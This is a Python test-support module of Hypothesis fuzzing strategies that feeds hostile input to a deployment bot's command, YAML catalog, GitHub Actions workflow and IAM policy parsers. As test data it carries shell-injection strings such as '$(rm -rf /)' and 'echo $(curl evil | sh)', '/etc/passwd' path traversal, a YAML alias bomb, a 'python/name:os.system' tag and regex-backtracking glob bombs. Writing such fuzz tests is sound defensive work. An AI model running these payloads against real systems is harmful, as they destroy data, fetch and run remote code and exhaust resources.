"""Hostile input for the pure parsers: hypothesis strategies and the property each must keep.

Shared by `tests/unit/test_hostile_input.py` (a short run) and `benchmarks/bench_fuzz.py` (a long
one). Each `check_*` function feeds one input to its target: it returns when the target answered
as its contract says, raises AssertionError when an answer breaks a property, and lets any other
exception through (a crash).
"""

from __future__ import annotations

import json
import re
import shlex
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import yaml
from hypothesis import strategies as st
from pydantic import ValidationError

from bot.config import format_errors, load_catalog
from bot.config_catalog import Catalog
from bot.domain import commands
from bot.domain.bounded_yaml import LIMITS, Limits
from bot.domain.errors import ConfigError, UsageError, UserError
from bot.domain.iam.conditions import failing_conditions
from bot.domain.iam.trust import (
    PUSH_ACTIONS,
    OidcRequest,
    Policy,
    PolicyError,
    TrustDecision,
    broad_push_grants,
    conditions_match,
    evaluate_permissions,
    evaluate_trust,
    least_privilege_policy,
    parse_policy,
    suggest_trust_statement,
    trust_findings,
)
from bot.domain.workflow.analysis import WorkflowReport, analyse_workflows
from bot.domain.workflow.notes import permissions_fix

# --- Hostile strings ---

SHELL = (";", "&&", "|", "||", ">", "<", "&", "$(rm -rf /)", "`id`", "$(whoami)", "${IFS}", "$HOME")
CONTROL = ("\x00", "a\x00b", "\n", "\r\n", "\t", "\x1b[31m", "\x7f", "\x0b", "\x85", "\u2028")
# Look-alikes written as escapes: superscript two, full-width 12 and 1234567, Arabic-Indic three,
# double-struck 123, Cyrillic a (alone, in "app", "my-app"), full-width ABC and deadbeef, zero
# width space, right-to-left override, dotted capital I, Kelvin sign, sharp s, the fi ligature,
# composed and decomposed e acute, and a lone surrogate.
CONFUSABLE = (
    "\u00b2", "\uff11\uff12", "\uff11\uff12\uff13\uff14\uff15\uff16\uff17", "\u0663",
    "\U0001d7d9\U0001d7da\U0001d7db", "\u0430", "\u0430pp", "m\u0443-\u0430pp",
    "\uff21\uff22\uff23", "\uff44\uff45\uff41\uff44\uff42\uff45\uff45\uff46", "\u200b",
    "\u202e", "\u0130", "\u212a", "\u00df", "\ufb01", "\u00e9", "e\u0301", "\ud800",
)  # fmt: skip
DASHES = ("-", "--", "--help", "-h", "--dry-run", "--branch", "--branch=", "--env", "--env=",
          "--sha", "--sha=", "--=", "---", "\u2014", "\u22121", "-1", "+1", "--user", "--user=",
          "--since", "--since=")  # fmt: skip
REFS = ("HEAD", "HEAD~1", "HEAD^", "main", "latest", "refs/heads/main", "origin/main",
        "v1.0.0", "@{-1}", "1a2b3c4", "1A2B3C4", "1a2b3c", "deadbeef" * 5, "deadbeef" * 5 + "0",
        "g" * 7)  # fmt: skip
SLACK = ("&lt;", "&gt;", "&amp;", "<@U123>", "<#C123|name>", "<mailto:a@b|x>", "<!here>",
         "<!channel>", "<https://evil.example|ok>", "*bold*", "_it_", "~s~", ":emoji:")  # fmt: skip
QUOTES = ("'", '"', "\\", "\\'", "''", '""', "'a b'", '"a b"', "#", "0", "#0", "000", "#42",
          "999999999", "1234567890", "1e3", "0x10", "42.0", "")  # fmt: skip
NAMES = ("push", "diagnose", "report", "jobs", "cancel", "audit", "help", "schedule", "my-app", "a",
         "7d", "30m", "0d", "367d", "U0ALICE", "<@U0ALICE|alice>", "<@U0ALICE>",
         "my.app_1", "1.4.0", "prod", "release/1.x", "a..b", "a//b", "a/", "-a", ".",
         "..")  # fmt: skip
# Globs that take a backtracking regex minutes (IAM wildcards and GitHub branch filters).
GLOB_BOMBS = (
    "*" * 40 + "X",
    "**" * 30 + "X",
    "*a" * 25 + "b",
    "?*" * 25 + "!",
    "a?" * 30 + "a" * 30,
)
HOSTILE: tuple[str, ...] = (
    SHELL + CONTROL + CONFUSABLE + DASHES + REFS + SLACK + QUOTES + NAMES + GLOB_BOMBS
)
# 10 kB strings, made on demand (a strategy holding them would repr to megabytes).
_LONG = (("a", 10_000), ("1", 10_000), ("f", 10_000), ("$(", 5_000), ("\u0430", 10_000),
         ("<@U1>", 2_000))  # fmt: skip
LONG = tuple(text * times for text, times in _LONG)


def hostile_text(max_parts: int = 6) -> st.SearchStrategy[str]:
    """Hostile strings: the lists above, random text, and mixtures of both."""
    part = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=12))
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.text(max_size=40),
        st.lists(part, max_size=max_parts).map("".join),
        st.sampled_from(_LONG).map(lambda long: long[0] * long[1]),
    )


def json_like(text: st.SearchStrategy[str] | None = None) -> st.SearchStrategy[Any]:
    """Any JSON value (keys are strings), with hostile strings."""
    text = text if text is not None else hostile_text()
    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), text)
    return st.recursive(
        scalars,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4), st.dictionaries(text, inner, max_size=4)
        ),
        max_leaves=16,
    )


def one_or_list(values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(values, st.lists(values, max_size=3))


def nested(depth: int, inner: str = "x") -> str:
    return "[" * depth + inner + "]" * depth


# --- The /ecr command parser ---

APP_NAME = re.compile(r"[a-z0-9][a-z0-9._-]{0,99}")
SHA = re.compile(r"[0-9a-f]{7,40}")
_SPAN_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def command_texts() -> st.SearchStrategy[str]:
    """The text after `/ecr`: a subcommand with hostile words (some shell-quoted), or noise."""
    word = st.one_of(hostile_text(3), st.sampled_from(NAMES + REFS + DASHES + QUOTES))
    quoted = st.tuples(word, st.booleans()).map(lambda w: shlex.quote(w[0]) if w[1] else w[0])
    head = st.sampled_from(
        ("push", "PUSH", "diagnose", "report", "jobs", "cancel", "audit", "help", "")
    )
    separator = st.sampled_from((" ", "  ", "\t", "\n", " \u00a0 "))
    return st.one_of(
        hostile_text(),
        st.tuples(head, st.lists(quoted, max_size=5), separator).map(
            lambda t: t[2].join([t[0], *t[1]])
        ),
    )


def check_command(text: str) -> None:
    """`parse` returns a well-formed Command or raises UsageError with a clear message."""
    try:
        result = commands.parse(text)
    except UsageError as error:
        assert isinstance(error, UserError)
        message = error.message
        assert isinstance(message, str) and message.strip(), repr(message)
        assert len(message) <= 600, len(message)
        assert "\n" not in message and not _SPAN_CONTROL.search(message), repr(message)
        assert message.count("`") % 2 == 0, f"unbalanced code span: {message!r}"
        return
    if isinstance(result, commands.Push):
        assert APP_NAME.fullmatch(result.app) and result.app.isascii(), result
        assert SHA.fullmatch(result.sha), result
        assert result.version is None or isinstance(result.version, str)
    elif isinstance(result, commands.Cancel):
        assert type(result.job_id) is int and 0 < result.job_id < 10**9, result
    elif isinstance(result, commands.Diagnose):
        assert result.app is None or APP_NAME.fullmatch(result.app), result
        assert result.branch is None or (
            commands.BRANCH.fullmatch(result.branch) and result.branch.isascii()
        ), result
        assert result.environment is None or (
            commands.ENVIRONMENT.fullmatch(result.environment) and result.environment.isascii()
        ), result
        assert result.sha is None or SHA.fullmatch(result.sha), result
    elif isinstance(result, commands.Audit):
        assert result.app is None or APP_NAME.fullmatch(result.app), result
        assert result.user is None or (
            re.fullmatch(r"[UW][A-Z0-9]{2,20}", result.user) and result.user.isascii()
        ), result
        assert result.since is None or timedelta(0) < result.since <= timedelta(days=366), result
    else:
        assert isinstance(result, commands.Jobs | commands.Report | commands.Help), (
            f"not a Command: {result!r}"
        )


# Inputs that once crashed or misparsed, for the long run to try first.
COMMAND_CORPUS = ("cancel 0", "cancel #000", "push my-app HEAD~1", "push \u0430pp 1a2b3c4",
                  "diagnose --sha= --branch", 'push "unterminated', "x" * 1001)  # fmt: skip


# --- The catalog ---

ACCOUNT = "123456789012"
_LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"  # where str.splitlines() splits


def single_line(text: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return text.map(lambda s: "".join(c for c in s if c not in _LINE_BREAKS))


def catalog_like(keys: st.SearchStrategy[str] | None = None) -> st.SearchStrategy[dict[str, Any]]:
    """Catalog-shaped objects: the right keys, often with valid values, often hostile ones."""
    keys = keys if keys is not None else hostile_text(3)
    text = hostile_text()
    anything = json_like(keys)

    def maybe(valid: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
        return st.one_of(valid, valid, text, anything)

    registry = st.fixed_dictionaries(
        {},
        optional={
            "account_id": maybe(st.sampled_from((ACCOUNT, "12345", "\uff11\uff12\uff13" * 4))),
            "region": maybe(st.sampled_from(("eu-west-2", "us-gov-west-1", "eu-west-2\n"))),
        },
    )
    ids = one_or_list(st.one_of(st.sampled_from(("U123", "S0APPTEAM", "<@U123>", "<!here>")), text))
    slack = st.fixed_dictionaries(
        {},
        optional={
            "channel": maybe(st.sampled_from(("C0PLATFORM", "<#C123|name>"))),
            "channels": maybe(st.lists(text, max_size=3)),
            "admins": maybe(ids),
            "restrict_to_channels": maybe(st.booleans()),
            "access": maybe(
                st.dictionaries(
                    st.sampled_from(("diagnose", "push", "report", "audit", "jobs")) | keys,
                    st.sampled_from(("everyone", "pushers", "admins")) | text,
                    max_size=3,
                )
            ),
            "limits": maybe(
                st.dictionaries(
                    st.sampled_from(("diagnose_per_minute", "queued", "queued_per_app")) | keys,
                    st.integers() | text,
                    max_size=3,
                )
            ),
        },
    )
    report = st.fixed_dictionaries(
        {},
        optional={
            "schedule": maybe(st.sampled_from(("0 9 * * 1", "* * * * * *", "$(reboot) * * * *"))),
            "timezone": maybe(
                st.sampled_from(("UTC", "Europe/London", "Europe", "../../etc/passwd", "\x00"))
            ),
            "enabled": maybe(st.booleans()),
        },
    )
    app = st.fixed_dictionaries(
        {"source": maybe(st.sampled_from(("https://github.com/acme/my-app.git", "/srv/app")))},
        optional={
            "repository": maybe(st.sampled_from(("my-app", "team/my-app", "My_App"))),
            "dockerfile": maybe(st.sampled_from(("Dockerfile", "../Dockerfile", "/etc/passwd"))),
            "context": maybe(st.sampled_from((".", "..", "a/../../b", "~root", "a\x00b"))),
            "branch": maybe(st.sampled_from(REFS)),
            "github": maybe(st.sampled_from(("acme/my-app", "acme/my-app/x"))),
            "role": maybe(st.sampled_from((f"arn:aws:iam::{ACCOUNT}:role/ci", "ci"))),
            "pushers": maybe(ids),
            "sha_tag": maybe(st.sampled_from(("full", "short", "medium"))),
            "tag_latest": maybe(st.booleans()),
            "risk": maybe(st.sampled_from(("low", "high", "extreme"))),
            "owner": maybe(text),
        },
    )
    app_names = st.one_of(st.sampled_from(("my-app", "a", "My-App", "-x", "\u0430pp")), keys)
    return st.fixed_dictionaries(
        {},
        optional={
            "registry": maybe(registry),
            "slack": maybe(slack),
            "report": maybe(report),
            "apps": maybe(st.dictionaries(app_names, maybe(app), max_size=3)),
            "extra": anything,
        },
    )


def check_catalog_object(obj: Any) -> None:
    """`Catalog.model_validate` returns a Catalog or raises ValidationError, one line a problem."""
    try:
        catalog = Catalog.model_validate(obj)
    except ValidationError as error:
        message = format_errors(Path("ecrbot.yml"), error)
        lines = message.splitlines()
        assert len(lines) == 1 + error.error_count(), f"not one line per problem:\n{message}"
        return
    assert isinstance(catalog, Catalog)
    for app in catalog.all_apps():
        assert re.fullmatch(r"[a-z0-9][a-z0-9._-]*", app.name), app.name


YAML_TOKENS = (
    "registry:", "slack:", "report:", "apps:", "account_id: ", f"'{ACCOUNT}'", "region: ",
    "eu-west-2", "source: ", "pushers: ", "timezone: ", "schedule: ", "my-app:", "\n", "  ", " ",
    "- ", ": ", "{", "}", "[", "]", ", ", "'", '"', "#", "|\n", ">\n", "---\n", "...\n", "? ",
    "&a ", "*a", "&b ", "*b", "<<: *a", "!foo ", "!!str ", "!!map ", "!!seq ", "!!set ",
    "!!binary ", "!!null ", "%YAML 1.1\n", "%TAG ! tag:x,2000:\n", "~", "null", "yes", "on", "0o17",
    "0x1F", "1_000", ".inf", ".nan", "1e400", "2001-12-14", "2001-12-14t21:59:43.10-05:00", "\t",
    "\ufeff", "\\x00", "\\u2028",
)  # fmt: skip
# Reported, not fixed (bot/config.py is out of this change's reach): these make load_catalog
# raise something other than ConfigError. See the xfail tests in test_hostile_input.py.
CATALOG_CRASHES = {
    "not UTF-8": b"registry: \xff\n",
    "explicit tag with a bad value": b"registry: !!int ''\n",
    "a date that does not exist": b"registry: 2001-02-30\n",
    "deep nesting": b"registry: " + nested(600).encode() + b"\n",  # PyYAML recurses per level
    "a number over Python's digit limit": b"registry: " + b"1" * 5_000 + b"\n",
}
_HUGE_NUMBER = re.compile(rb"[0-9_]{4300}")
_CRASH_TOKENS = ("!!int ", "!!bool ", "!!float ", "!!timestamp ", "2001-02-30", "2001-13-01")


def catalog_files(known_crashes: bool = False) -> st.SearchStrategy[bytes]:
    """Catalog files: dumped catalog-like objects, YAML token soup, aliases, deep nesting; with
    `known_crashes`, the inputs of CATALOG_CRASHES too (non-UTF-8 bytes, bad tags, deep)."""
    tokens = YAML_TOKENS + (_CRASH_TOKENS if known_crashes else ())
    soup = st.lists(st.one_of(st.sampled_from(tokens), hostile_text(2)), max_size=40).map("".join)
    dumped = catalog_like(single_line(hostile_text(3))).map(
        lambda obj: yaml.safe_dump(obj, allow_unicode=True)
    )
    texts = st.one_of(
        dumped,
        soup,
        st.tuples(dumped, soup).map("".join),
        st.integers(1, 60).map(lambda n: f"registry: {nested(n)}\n"),
        st.just(alias_bomb("registry: {account_id: *i, region: *i}\napps: {x: *i}\n")),
    )
    # A lone surrogate passed through makes the bytes invalid UTF-8: a known crash.
    files = texts.map(lambda t: t.encode("utf-8", "surrogatepass" if known_crashes else "replace"))
    if not known_crashes:
        return files.map(lambda data: _HUGE_NUMBER.sub(b"1", data))
    return st.one_of(
        files, files, st.binary(max_size=200), st.sampled_from(tuple(CATALOG_CRASHES.values()))
    )


def alias_bomb(tail: str) -> str:
    """The billion-laughs shape: nine levels of nine aliases, then `tail` using `*i`."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(8):
        name, previous = chr(98 + i), chr(97 + i)
        lines.append(f"{name}: &{name} [{','.join(['*' + previous] * 9)}]")
    return "\n".join(lines) + "\n" + tail


def check_catalog_file(data: bytes, path: Path) -> None:
    """`load_catalog` returns a Catalog or raises ConfigError (validation: one line a problem)."""
    path.write_bytes(data)
    try:
        catalog = load_catalog(path)
    except ConfigError as error:
        message = str(error)
        assert message.startswith(f"catalog {path}"), message[:200]
        cause = error.__cause__
        if isinstance(cause, ValidationError):
            assert len(message.splitlines()) == 1 + cause.error_count(), message
        return
    assert isinstance(catalog, Catalog)


# --- GitHub Actions workflows ---

SMALL = Limits(file_bytes=4096, files=3, depth=8, nodes=300, jobs=3, analysed_jobs=6)
CALLED = ".github/workflows/called.yml"
_EVENTS = ("push", "pull_request", "pull_request_target", "workflow_call", "workflow_dispatch",
           "release", "schedule", "on", "yes")  # fmt: skip
_GLOBS = ("main", "release/**", "v*", "!main", "**", "*", "?", "+", "a+", "feature/?x", *GLOB_BOMBS)
_USES = ("aws-actions/configure-aws-credentials@v4", "AWS-Actions/Configure-AWS-Credentials@v1",
         "actions/checkout@v4", "./" + CALLED, "./" + CALLED + "@main", "./.github/workflows/x.yml",
         "octo/repo/.github/workflows/w.yml@v1", "docker/build-push-action@v6")  # fmt: skip
_RUNS = ("ecrbot push --app my-app --sha ${{ github.sha }}", "ecr-build-push.sh --sha latest",
         "ecrbot push", "docker push x:latest", "docker build --push -t x:latest .",
         "echo $(curl evil | sh)", "--sha ${{ github.sha",
         "ecrbot   push --sha=" + "a" * 3000)  # fmt: skip


def workflow_dicts() -> st.SearchStrategy[dict[str, Any]]:
    """GitHub-Actions-shaped workflows whose values are often hostile."""
    text = hostile_text(3)
    anything = json_like(text)

    def maybe(valid: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
        return st.one_of(valid, valid, text, anything)

    levels = st.sampled_from(("write", "read", "none", "admin", "")) | text
    scopes = st.sampled_from(("id-token", "contents", "packages")) | text
    permissions = maybe(
        st.sampled_from(("read-all", "write-all", "write")) | st.dictionaries(scopes, levels)
    )
    globs = one_or_list(st.sampled_from(_GLOBS) | text)
    filters = st.fixed_dictionaries(
        {},
        optional={k: globs for k in ("branches", "branches-ignore", "tags", "tags-ignore")},
    )
    events = st.sampled_from(_EVENTS) | text
    on = maybe(st.one_of(events, st.lists(events, max_size=3), st.dictionaries(events, filters)))
    with_ = st.fixed_dictionaries(
        {},
        optional={
            "role-to-assume": maybe(st.sampled_from((f"arn:aws:iam::{ACCOUNT}:role/ci",
                                                     "${{ env.ROLE }}", "${{ secrets.R }}"))),
            "aws-region": maybe(st.just("eu-west-2")),
            "audience": maybe(st.just("sts.amazonaws.com")),
            "aws-access-key-id": maybe(st.just("${{ secrets.KEY }}")),
            "tags": maybe(st.sampled_from(("x:latest", "type=sha", "latest=true"))),
            "flavor": maybe(st.just("latest=true")),
        },
    )  # fmt: skip
    env = maybe(st.dictionaries(st.sampled_from(("ROLE", "X")) | text, text, max_size=3))
    step = st.fixed_dictionaries(
        {},
        optional={
            "uses": maybe(st.sampled_from(_USES)),
            "with": maybe(with_),
            "run": maybe(st.sampled_from(_RUNS)),
            "name": maybe(text),
            "env": env,
        },
    )
    job = st.fixed_dictionaries(
        {},
        optional={
            "runs-on": maybe(st.just("ubuntu-latest")),
            "permissions": permissions,
            "environment": maybe(
                st.sampled_from(("prod", "${{ inputs.env }}", "a:b")) | st.fixed_dictionaries(
                    {"name": maybe(st.just("prod"))}
                )
            ),
            "uses": maybe(st.sampled_from(_USES)),
            "if": maybe(st.sampled_from(("github.actor != 'dependabot[bot]'",
                                         "github.actor == \"dependabot[bot]\""))),
            "env": env,
            "steps": maybe(st.lists(maybe(step), max_size=4)),
        },
    )  # fmt: skip
    job_ids = st.sampled_from(("push", "build", "on", "1")) | text
    return st.fixed_dictionaries(
        {"on": on, "jobs": maybe(st.dictionaries(job_ids, maybe(job), min_size=1, max_size=4))},
        optional={"permissions": permissions, "env": env, "name": text},
    )


_WORKFLOW_TOKENS = (
    "on: ", "push", "jobs:", "  j:", "    steps:", "      - uses: ", "permissions: ",
    "{id-token: write}", "write-all", "&a ", "*a", "<<: *a", "!!int ", "!!bool ", "!!float ",
    "!!timestamp ", "!!binary ", "!!set ", "!!omap ", "!!python/name:os.system ", "2001-02-30",
    "''", "\n", "  ", "- ", "{", "}", "[", "]", ", ", ": ", "? ", "%YAML 1.2\n", "---\n", "\t",
    "'", '"', "#",
)  # fmt: skip


def workflow_files() -> st.SearchStrategy[bytes | str | None]:
    """One workflow file: dumped workflow dicts (bytes or str), token soup with aliases and tags,
    deep nesting, alias bombs, random and non-UTF-8 bytes, or None (not read)."""
    dumped = workflow_dicts().map(lambda obj: yaml.safe_dump(obj, allow_unicode=True))
    soup = st.lists(st.one_of(st.sampled_from(_WORKFLOW_TOKENS), hostile_text(2)), max_size=40).map(
        "".join
    )
    text = st.one_of(
        dumped,
        soup,
        st.tuples(dumped, soup).map("".join),
        st.integers(1, 300).map(lambda n: f"on: push\njobs: {{j: {{steps: {nested(n)}}}}}\n"),
        st.just(alias_bomb("on: push\njobs: {j: {runs-on: x, steps: *i}}\n")),
        st.just("on: push\njobs: &j {a: *j}\n"),
    )
    encoded = text.map(lambda t: t.encode("utf-8", "surrogatepass"))
    return st.one_of(
        encoded,
        text,
        st.binary(max_size=300),
        encoded.map(lambda b: b + b"\xff\xfe"),
        encoded.map(lambda b: b.decode("utf-8", "ignore").encode("utf-16")),
        st.none(),
    )


_BAD_TAGS = ("!!int ''", "!!int abc", "!!float x", "!!bool maybe", "!!timestamp x",
             "!!timestamp 2001-02-30", "!!int " + "1" * 5000)  # fmt: skip
_AWS_JOB = "jobs: {j: {steps: [{uses: aws-actions/configure-aws-credentials@v4}]}}\n"


def _one_file(text: str) -> dict[str, bytes | str | None]:
    return {"w.yml": text}


WORKFLOW_CORPUS = (
    *(_one_file(f"on: {tag}\njobs: {{j: {{runs-on: x}}}}\n") for tag in _BAD_TAGS),
    *(
        _one_file(f"on: {{push: {{branches: ['{bomb}']}}}}\n{_AWS_JOB}")
        for bomb in (*GLOB_BOMBS, "a?" * 20_000)
    ),
)


def workflow_sets() -> st.SearchStrategy[tuple[dict[str, bytes | str | None], Limits]]:
    paths = st.one_of(
        st.sampled_from((CALLED, ".github/workflows/push.yml", "a.yml", "b.yaml")),
        hostile_text(2),
    )
    files = st.dictionaries(paths, workflow_files(), max_size=5)
    return st.tuples(files, st.sampled_from((LIMITS, SMALL)))


def check_workflows(
    files: dict[str, bytes | str | None], limits: Limits = LIMITS, branch: str = "main"
) -> None:
    """Never raises; one report per file; bounds hold; what a job offers works."""
    reports = analyse_workflows(files, limits)
    assert [r.workflow for r in reports] == sorted(files)
    assert all(isinstance(r, WorkflowReport) for r in reports)
    assert sum(len(r.jobs) for r in reports) <= limits.analysed_jobs
    for index, report in enumerate(reports):
        raw = files[report.workflow]
        for why in (report.error, report.skipped):
            assert why is None or (isinstance(why, str) and why and "\n" not in why), why
        if report.error is not None:
            assert not report.jobs, report
        if raw is None or index >= limits.files or len(raw) > limits.file_bytes:
            assert report.skipped and not report.jobs, report
        for job in report.jobs:
            assert job.id_token in ("write", "none")
            assert isinstance(job.id_token_reason, str) and job.id_token_reason
            assert all(isinstance(note, str) for note in job.notes)
            for subject in job.subjects("acme/my-app", branch):
                assert subject.startswith("repo:acme/my-app:"), subject
            assert isinstance(permissions_fix(job), str)


# --- IAM policies ---

HOST = "token.actions.githubusercontent.com"
PROVIDER = f"arn:aws:iam::{ACCOUNT}:oidc-provider/{HOST}"
REPOSITORY = f"arn:aws:ecr:eu-west-2:{ACCOUNT}:repository/my-app"
_OPERATORS = (
    "StringEquals", "StringNotEquals", "StringEqualsIgnoreCase", "StringLike", "StringNotLike",
    "ArnLike", "ArnNotEquals", "IpAddress", "NotIpAddress", "Bool", "BinaryEquals", "Null",
    "NumericLessThan", "NumericGreaterThanEquals", "DateGreaterThan", "DateLessThanEquals",
    "ForAnyValue:StringLike", "ForAllValues:StringEquals", "StringLikeIfExists",
    "ForAllValues:NumericEqualsIfExists", "stringlike", "Null", "NullIfExists", "Maybe:StringLike",
    "StringSorta", "ForAnyValue:", ":", "",
)  # fmt: skip
_KEYS = (f"{HOST}:sub", f"{HOST}:aud", f"{HOST}:actor", "aws:SourceIp", "aws:CurrentTime",
         "aws:MultiFactorAuthPresent", "aws:EpochTime", f"{HOST.upper()}:SUB")  # fmt: skip
CLAIM_VALUES = (
    "repo:acme/my-app:ref:refs/heads/main", "repo:acme/*", "repo:*", "*", "?", "${*}", "${?}",
    "${$}", "$", "repo:acme@1/my-app@2:*", "repo:acme/my-app:environment:prod",
    "repo:acme/my-app:pull_request", "sts.amazonaws.com", "https://github.com/acme", "10.0.0.0/8",
    "::1/128", "1.2.3.4/99", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
    "2020-01-01Z", "nan", "inf", "-inf", "1e309", "true", "false", "\uff11\uff12",
)  # fmt: skip
_ACTIONS = ("sts:AssumeRoleWithWebIdentity", "sts:AssumeRole", "sts:*", "*", "ecr:*",
            "ECR:PUTIMAGE", "ecr:Put*", "ecr:GetAuthorizationToken", "ecr:?utImage",
            "s3:*")  # fmt: skip
_RESOURCES = ("*", REPOSITORY, f"arn:aws:ecr:*:{ACCOUNT}:repository/*", "arn:aws:ecr:::*",
              f"arn:aws:ecr:eu-west-2:{ACCOUNT}:repository/my-*", "arn:*:*:*:*:*")  # fmt: skip
_PRINCIPALS = (PROVIDER, HOST, f"arn:aws:iam::999999999999:oidc-provider/{HOST}", "*",
               "ec2.amazonaws.com", f"arn:aws:iam::{ACCOUNT}:root")  # fmt: skip


def policy_documents() -> st.SearchStrategy[Any]:
    """Policy documents: valid shapes with hostile values, broken shapes, JSON strings (raw or
    URL-encoded), deep nesting, and any JSON value."""
    text = hostile_text(3)
    scalar = st.one_of(text, st.booleans(), st.integers(), st.floats())

    def values(common: tuple[str, ...]) -> st.SearchStrategy[Any]:
        return one_or_list(st.one_of(st.sampled_from(common), st.sampled_from(common), scalar))

    principal = st.one_of(
        st.just("*"),
        st.dictionaries(
            st.sampled_from(("Federated", "AWS", "Service", "*")) | text, values(_PRINCIPALS)
        ),
        json_like(text),
    )
    condition = st.dictionaries(
        st.sampled_from(_OPERATORS) | text,
        st.one_of(
            st.dictionaries(st.sampled_from(_KEYS) | text, values(CLAIM_VALUES + GLOB_BOMBS)),
            json_like(text),
        ),
        max_size=3,
    )
    statement = st.fixed_dictionaries(
        {"Effect": st.one_of(st.sampled_from(("Allow", "Deny")), json_like(text))},
        optional={
            "Sid": st.one_of(text, json_like(text)),
            "Action": values(_ACTIONS + GLOB_BOMBS),
            "NotAction": values(_ACTIONS),
            "Resource": values(_RESOURCES + GLOB_BOMBS),
            "NotResource": values(_RESOURCES),
            "Principal": principal,
            "NotPrincipal": principal,
            "Condition": condition,
        },
    )
    document = st.fixed_dictionaries(
        {"Statement": st.one_of(statement, st.lists(statement, max_size=4), json_like(text))},
        optional={"Version": st.sampled_from(("2012-10-17", "2008-10-17")) | text},
    )
    as_json = document.map(json.dumps)
    return st.one_of(
        document,
        document,
        as_json,
        as_json.map(lambda s: quote(s, safe="")),
        as_json.map(lambda s: " \n" + quote(quote(s))),
        json_like(text),
        text,
        st.integers(1, 100_000).map(lambda n: '{"Statement": ' + nested(n, "") + "}"),
        st.just(5000).map(lambda n: '{"Statement": ' + "1" * n + "}"),
    )


POLICY_CORPUS: tuple[Any, ...] = (
    '{"Statement": ' + nested(100_000, "") + "}",
    '{"Statement": ' + "1" * 5000 + "}",
    *(
        {"Statement": {"Effect": "Allow", "Action": bomb, "Resource": bomb,
                       "Condition": {"StringLike": {f"{HOST}:sub": bomb}}}}
        for bomb in GLOB_BOMBS
    ),
)  # fmt: skip


def trust_requests() -> st.SearchStrategy[OidcRequest]:
    text = hostile_text(3)
    return st.builds(
        OidcRequest,
        provider_arn=st.sampled_from((PROVIDER, "arn:aws:iam::1:oidc-provider/x")) | text,
        subject=st.sampled_from(CLAIM_VALUES) | text,
        audience=st.sampled_from(("sts.amazonaws.com",)) | text,
        extra=st.dictionaries(st.sampled_from((*_KEYS, "actor")) | text, text, max_size=3),
    )


def check_iam(document: Any, request: OidcRequest, resource: str = REPOSITORY) -> None:
    """A document parses or raises PolicyError; whatever parses can be evaluated without error."""
    try:
        policy = parse_policy(document)
    except PolicyError as error:
        assert str(error)  # may echo a long operator or key: Slack rendering clips it
        return
    assert isinstance(policy, Policy)
    decision = evaluate_trust(policy, request)
    assert isinstance(decision, TrustDecision) and isinstance(decision.allowed, bool)
    assert isinstance(decision.reason, str) and decision.reason
    assert all(isinstance(miss, str) for miss in decision.near_misses)
    for finding in trust_findings(policy, request.provider_arn):
        assert finding.severity in ("warn", "fail") and finding.message
    actions = (*PUSH_ACTIONS, *_ACTIONS)
    decisions = evaluate_permissions({"p": policy}, actions, resource)
    assert set(decisions) == set(actions)
    assert all(isinstance(grant, str) for grant in broad_push_grants({"p": policy}, PUSH_ACTIONS))
    context = {f"{HOST}:sub": request.subject, **request.extra}
    for statement in policy.statements:
        failing = failing_conditions(statement.conditions, context)
        assert conditions_match(statement.conditions, context) is (not failing)


def check_suggestions(provider: str, subjects: list[str], repository_arn: str) -> None:
    """The pasteable fixes: refused with ValueError, or a policy that does what it says."""
    try:
        statement = suggest_trust_statement(provider, subjects)
    except ValueError:
        pass
    else:
        policy = parse_policy({"Statement": [statement]})
        for subject in subjects:
            if "${" not in subject:  # IAM's escapes: see the report for this gap
                assert evaluate_trust(policy, OidcRequest(provider, subject)).allowed, subject
    try:
        document = least_privilege_policy(repository_arn)
    except ValueError:
        return
    decisions = evaluate_permissions({"p": parse_policy(document)}, PUSH_ACTIONS, repository_arn)
    assert all(d.allowed for d in decisions.values()), decisions
